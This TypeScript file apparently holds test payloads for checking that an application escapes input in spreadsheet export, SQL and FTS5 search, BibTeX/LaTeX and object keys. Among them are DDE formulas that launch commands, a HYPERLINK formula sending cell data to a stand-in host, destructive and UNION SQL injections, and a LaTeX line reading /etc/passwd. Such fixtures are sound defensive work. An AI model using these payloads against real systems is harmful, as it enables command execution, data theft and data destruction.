import type { Payload } from './payloads.js';

const formulas: readonly Payload[] = [
  { name: 'formula', kind: 'formula', text: '=1+1' },
  { name: 'formula with a link', kind: 'formula', text: '=HYPERLINK("https://jahat.example/?"&A1,"Ikan")' },
  { name: 'DDE', kind: 'formula', text: "=cmd|' /C calc'!A0" },
  { name: 'DDE behind a plus', kind: 'formula', text: "+cmd|' /C calc'!A0" },
  { name: 'formula behind a minus', kind: 'formula', text: '-2+3+cmd|"/C calc"!A0' },
  { name: 'formula behind an at', kind: 'formula', text: '@SUM(1+1)*cmd|"/C calc"!A0' },
  { name: 'formula behind a tab', kind: 'formula', text: '\t=1+1' },
  { name: 'formula behind a return', kind: 'formula', text: '\r=1+1' },
  { name: 'formula behind a new line', kind: 'formula', text: '\n=1+1' },
  { name: 'formula behind a space', kind: 'formula', text: '  =1+1' },
  { name: 'formula behind a no-break space', kind: 'formula', text: '\u00a0=1+1' },
  { name: 'formula behind a byte order mark', kind: 'formula', text: '\ufeff=1+1' },
  { name: 'full-width equals', kind: 'formula', text: '\uff1d1+1' },
  { name: 'full-width plus', kind: 'formula', text: '\uff0b1+1' },
  { name: 'full-width minus', kind: 'formula', text: '\uff0d1+1' },
  { name: 'full-width at', kind: 'formula', text: '\uff20SUM(1)' },
  { name: 'quote, then formula', kind: 'formula', text: '"=1+1' },
  { name: 'new cell with a formula', kind: 'formula', text: 'ikan","=1+1",";=1+1;' },
  { name: 'new row with a formula', kind: 'formula', text: 'ikan"\r\n"=1+1' },
  { name: 'apostrophe, then formula', kind: 'formula', text: "'=1+1" },
];

/** More words than can be asked for. */
const numbered = (word: string): string => Array.from({ length: 60 }, (_, at) => `${word}${at}`).join(' ');

const questions: readonly Payload[] = [
  { name: 'quote and truth', kind: 'sql', text: "' OR '1'='1" },
  { name: 'quote, truth and comment', kind: 'sql', text: "sepatu' OR 1=1 --" },
  { name: 'second statement', kind: 'sql', text: "'; DROP TABLE fact; --" },
  { name: 'union', kind: 'sql', text: "x' UNION SELECT sha256, body, 1 FROM snapshot --" },
  { name: 'double quote', kind: 'sql', text: 'name" = "name" OR "a' },
  { name: 'brackets and backtick', kind: 'sql', text: '] = ` OR [name' },
  { name: 'patterns of LIKE', kind: 'sql', text: '%_%' },
  { name: 'patterns of GLOB', kind: 'sql', text: '*[a-z]?' },
  { name: 'parameters', kind: 'sql', text: '? ?1 :nama @nama $nama' },
  { name: 'attaching a file', kind: 'sql', text: "'; ATTACH '/tmp/jahat.db' AS jahat; --" },
  { name: 'FTS5 alternative', kind: 'fts', text: 'tiadakata OR sepatu' },
  { name: 'FTS5 phrase and alternative', kind: 'fts', text: 'tiadakata" OR "sepatu' },
  { name: 'FTS5 negation', kind: 'fts', text: 'sepatu NOT tiadakata' },
  { name: 'FTS5 neighbours', kind: 'fts', text: 'NEAR(sepatu Senegal, 50)' },
  { name: 'FTS5 prefix', kind: 'fts', text: 'tiadaka*' },
  { name: 'FTS5 prefix in quotes', kind: 'fts', text: '"tiadaka" *' },
  { name: 'FTS5 column', kind: 'fts', text: 'text : sepatu' },
  { name: 'FTS5 without a column', kind: 'fts', text: '- {stems tiadakata} : sepatu' },
  { name: 'FTS5 start of a column', kind: 'fts', text: '^tiadakata + AND' },
  { name: 'FTS5 operators alone', kind: 'fts', text: '" * NEAR( AND : ^ - + ) OR' },
  { name: 'FTS5 brackets', kind: 'fts', text: `${'('.repeat(400)}tiadakata` },
  { name: 'many words', kind: 'fts', text: numbered('kata'), harmless: numbered('lain') },
];

const programs: readonly Payload[] = [
  { name: 'BibTeX braces', kind: 'latex', text: '}, title = {lain}, note = {{' },
  { name: 'BibTeX entry', kind: 'latex', text: '}\n@string{a = "b"}\n@article{lain, title={' },
  { name: 'LaTeX input', kind: 'latex', text: '\\input{/etc/passwd} \\write18{calc}' },
  { name: 'LaTeX characters', kind: 'latex', text: '# $ % & _ { } ~ ^ \\ "' },
  { name: 'LaTeX backslash at the end', kind: 'latex', text: 'ikan\\' },
  { name: '__proto__', kind: 'prototype', text: '__proto__' },
  { name: 'constructor', kind: 'prototype', text: 'constructor' },
  { name: 'prototype', kind: 'prototype', text: 'prototype' },
  { name: 'toString', kind: 'prototype', text: 'toString' },
  { name: 'hasOwnProperty', kind: 'prototype', text: 'hasOwnProperty' },
  { name: '__proto__ in brackets', kind: 'prototype', text: '__proto__[jahat]' },
];

/** Payloads that would like to be a formula, a question or a program. */
export const syntaxPayloads: readonly Payload[] = [...formulas, ...questions, ...programs];
